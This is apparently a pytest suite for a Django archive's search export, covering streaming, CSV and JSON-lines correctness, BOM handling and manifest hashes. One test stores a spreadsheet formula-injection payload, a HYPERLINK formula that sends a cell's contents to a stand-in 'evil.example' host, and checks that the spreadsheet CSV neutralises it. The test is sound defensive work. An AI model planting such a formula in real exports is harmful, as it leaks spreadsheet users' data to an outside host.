"""An export's bytes: it streams, its CSV opens cleanly, its manifest hashes what was sent."""

import csv
import datetime as dt
import hashlib
import io
import json

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from search.export.manifest import file_digest
from search.export.spec import ExportSpec
from search.export.stream import Export
from search.service import search
from search.types import SearchRequest
from tests.factories import make_article
from tests.search.export.conftest import AWKWARD_TITLES, index_all

pytestmark = pytest.mark.django_db

HARVEST = SearchRequest(q="harvest", sort="oldest")
ALL_COLUMNS = ("id", "title", "outlet", "authors", "tags", "published", "body")


def body(export: Export) -> bytes:
    return b"".join(export.body())


def article_reads(queries) -> int:
    """How many of these queries read rows of the article table (a batch each)."""
    return sum('FROM "archive_article"' in q["sql"] for q in queries.captured_queries)


def test_the_first_rows_are_sent_before_the_last_article_is_read(harvest):
    with CaptureQueriesContext(connection) as made:
        export = Export(ExportSpec(HARVEST, "csv"), batch=5)
    assert export.total == 30 and article_reads(made) == 0  # counted, nothing read yet

    chunks = export.body()
    with CaptureQueriesContext(connection) as first:
        header = next(chunks)
        first_rows = next(chunks)
    with CaptureQueriesContext(connection) as rest:
        remaining = b"".join(chunks)

    assert header.startswith(b"id,published,outlet,title")
    assert first_rows.count(b"Farm Wire") + first_rows.count(b"City Paper") == 5
    assert article_reads(first) == 1  # one batch of 5 of the 30 when the first rows go
    assert (
        article_reads(rest) == 5
        and remaining.count(b"Farm Wire") + remaining.count(b"City Paper") == 25
    )


def test_a_csv_export_has_exactly_the_searchs_rows_and_opens_cleanly(harvest):
    total = search(HARVEST).total
    export = Export(ExportSpec(HARVEST, "csv", ALL_COLUMNS))

    rows = list(csv.reader(io.StringIO(body(export).decode("utf-8"), newline="")))

    assert rows[0] == list(ALL_COLUMNS)
    assert len(rows) - 1 == total == export.total == export.rows == 30
    titles = {row[1] for row in rows[1:]}
    assert set(AWKWARD_TITLES) <= titles  # commas, quotes, a line break, non-ASCII intact
    first = next(row for row in rows[1:] if row[1] == AWKWARD_TITLES[1])
    assert first[3] == "Ana Lima" and first[4] == "topic:Coffee"


def test_the_bom_option_starts_the_file_for_spreadsheets(harvest):
    data = body(Export(ExportSpec(HARVEST, "csv", bom=True)))

    assert data.startswith(b"\xef\xbb\xbfid,")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0][0] == "id" and len(rows) == 31


def test_a_csv_manifest_hashes_every_byte_sent(harvest, search_backend):
    export = Export(ExportSpec(HARVEST, "csv", bom=True))
    data = body(export)

    manifest = export.manifest
    assert manifest["sha256"] == hashlib.sha256(data).hexdigest()
    assert manifest["bytes"] == len(data)
    assert manifest["count"] == manifest["total"] == 30
    assert manifest["backend"] == search_backend.name
    assert manifest["query"] == "harvest" and manifest["sort"] == "oldest"
    assert "format=csv" in manifest["parameters"] and "bom=1" in manifest["parameters"]


def test_a_json_lines_export_ends_with_its_manifest_hashing_the_lines_before(harvest, tmp_path):
    request = SearchRequest(q="harvest", outlets=("farm-wire",), sort="relevance")
    export = Export(ExportSpec(request, "jsonl"))
    data = body(export)

    *rows, last = data.splitlines(keepends=True)
    manifest = json.loads(last)["manifest"]
    assert manifest == export.manifest
    assert manifest["sha256"] == hashlib.sha256(b"".join(rows)).hexdigest()
    assert manifest["filters"] == {"outlet": ["farm-wire"]}
    records = [json.loads(row) for row in rows]
    assert len(records) == search(request).total == manifest["count"] == 20
    assert [r["id"] for r in records] == [h.id for h in search(request).hits]  # 20 a page
    path = tmp_path / "x.jsonl"
    path.write_bytes(data)
    assert file_digest(path).sha256 == manifest["sha256"]


def test_the_spreadsheet_csv_quotes_cells_a_spreadsheet_would_run_and_the_plain_one_not(harvest):
    formula = '=HYPERLINK("http://evil.example/"&A1) harvest'
    make_article(title=formula, body="The harvest came in at last.", published=dt.date(2009, 1, 1))
    make_article(title="-harvest+", body="The harvest came in once more.")
    index_all()

    def titles(bom: bool) -> set[str]:
        data = body(Export(ExportSpec(HARVEST, "csv", bom=bom))).decode("utf-8-sig")
        return {row[3] for row in csv.reader(io.StringIO(data, newline=""))}

    assert {f"'{formula}", "'-harvest+"} <= titles(True)  # bom=1: for spreadsheets
    assert {formula, "-harvest+"} <= titles(False)  # the data as stored, for programs
